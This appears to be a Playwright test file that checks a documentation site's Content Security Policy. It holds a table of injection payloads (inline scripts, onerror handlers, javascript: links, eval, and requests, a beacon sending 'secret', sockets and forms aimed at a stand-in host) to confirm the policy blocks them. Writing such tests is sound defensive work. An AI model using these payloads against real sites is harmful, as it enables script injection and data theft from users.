"""The policy in every page: nothing of the book is refused by it, and nothing else gets through."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect
from tests.conftest import Site
from tests.live.conftest import PATIENCE

WATCH = """
window.refused = [];
addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI, sample}) =>
    refused.push([effectiveDirective, blockedURI, sample].join(" ")));
"""
ATTACK = """() => new Promise((resolve) => {
    addEventListener("securitypolicyviolation", ({effectiveDirective}) => resolve(effectiveDirective));
    window.harm = () => resolve("harm");
    const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
    const elsewhere = "https://elsewhere.invalid/";
    setTimeout(async () => { %s });  // no longer the test's own code, which may do anything
    setTimeout(() => resolve("nothing"), 20000);
})"""
ATTACKS = {
    "an inline script": ("script-src-elem", "add('script', {textContent: 'harm()'})"),
    "an inline handler": (
        "script-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"harm()\">')",
    ),
    "a script from elsewhere": ("script-src-elem", "add('script', {src: elsewhere, onload: harm})"),
    "a module from elsewhere": ("script-src-elem", "import(elsewhere).then(harm, () => {})"),
    "an address that is a script": (
        "script-src-elem",
        "add('a', {href: 'javascript:harm()', id: 'a'}); document.getElementById('a').click()",
    ),
    "eval": ("script-src", "try { eval('harm()') } catch {}"),
    "a function from text": ("script-src", "try { new Function('harm()')() } catch {}"),
    "a timer from text": ("script-src", "setTimeout('harm()')"),
    "a request elsewhere": ("connect-src", "fetch(elsewhere).then(harm, () => {})"),
    "a beacon elsewhere": ("connect-src", "navigator.sendBeacon(elsewhere, 'secret')"),
    "a socket elsewhere": ("connect-src", "try { new WebSocket('wss://elsewhere.invalid') } catch {}"),
    "a picture from elsewhere": ("img-src", "add('img', {src: elsewhere})"),
    "a frame from elsewhere": ("frame-src", "add('iframe', {src: elsewhere})"),
    "an object from elsewhere": ("object-src", "add('object', {data: elsewhere})"),
    "a form sent elsewhere": (
        "form-action",
        "add('form', {action: elsewhere, id: 'f'}); document.getElementById('f').submit()",
    ),
    "another base for links": ("base-uri", "add('base', {href: elsewhere})"),
    "a style sheet in the page": ("style-src-elem", "add('style', {textContent: 'p { color: red }'})"),
    "a style on an element": ("style-src-attr", "document.body.setAttribute('style', 'color: red')"),
}


@pytest.fixture
def watched(context: BrowserContext) -> Iterator[Page]:
    """A page that counts what its policy refuses."""
    context.add_init_script(WATCH)
    return context.new_page()


def refused(page: Page) -> list[str]:
    return page.evaluate("refused")


@pytest.mark.parametrize("builder", ["mkdocs", "zensical"])
def test_no_page_of_the_book_is_refused_anything(
    watched: Page, builder: str, sites: dict[str, Site], addresses: dict[str, str]
):
    found = {}
    for url in sites[builder].pages:
        watched.goto(addresses[builder] + url)
        watched.evaluate("document.fonts.ready")
        watched.emulate_media(media="print")
        watched.emulate_media(media="screen")
        found[url] = refused(watched)
    assert {url: what for url, what in found.items() if what} == {}


def test_reading_is_refused_nothing(watched: Page, home: str):
    """The colour scheme, answers that unfold, a receipt, the search."""
    watched.goto(home + "neurons/")
    watched.locator("label[for^=__palette]:visible").first.click()
    watched.evaluate("for (const answer of document.querySelectorAll('details')) answer.open = true")
    watched.locator("article .proof").first.focus()
    watched.keyboard.press("/")
    watched.keyboard.type("sigmoid")
    expect(watched.locator(".md-search-result__link").first).to_be_visible()
    assert refused(watched) == []


def test_running_and_editing_are_refused_nothing(watched: Page, home: str):
    watched.goto(home + "neurons/")
    cell = watched.locator("live-cell").first
    cell.get_by_role("button", name="Run").click()
    expect(cell).to_have_attribute("state", "done", timeout=PATIENCE)
    cell.get_by_role("button", name="Edit").click()
    expect(cell.get_by_role("textbox")).to_be_visible()
    watched.keyboard.type("1")
    assert refused(watched) == []


def test_figures_made_by_a_run_are_refused_nothing(watched: Page, home: str):
    watched.goto(home + "networks/")
    cell = watched.locator("live-cell:has(svg)").last
    cell.get_by_role("button", name="Run").click()
    expect(cell).to_have_attribute("state", "done", timeout=PATIENCE)
    assert refused(watched) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_not_of_the_book_is_kept_out(page: Page, home: str, attack: str):
    directive, code = ATTACKS[attack]
    page.goto(home)
    assert page.evaluate(ATTACK % code) == directive


@pytest.mark.parametrize("attack", ["an inline script", "an inline handler", "eval"])
def test_without_the_policy_they_would_do_harm(browser: Browser, home: str, attack: str):
    with browser.new_context(bypass_csp=True, service_workers="block") as context:
        page = context.new_page()
        page.goto(home)
        assert page.evaluate(ATTACK % ATTACKS[attack][1]) == "harm"


def test_the_words_of_the_book_are_fetched_when_a_reader_searches(page: Page, home: str):
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(home + "neurons/")
    page.wait_for_load_state("networkidle")
    assert [url for url in asked if "search_index" in url] == []
    page.keyboard.press("/")
    page.keyboard.type("sigmoid")
    expect(page.locator(".md-search-result__link").first).to_be_visible()
    assert len([url for url in asked if "search_index" in url]) == 1
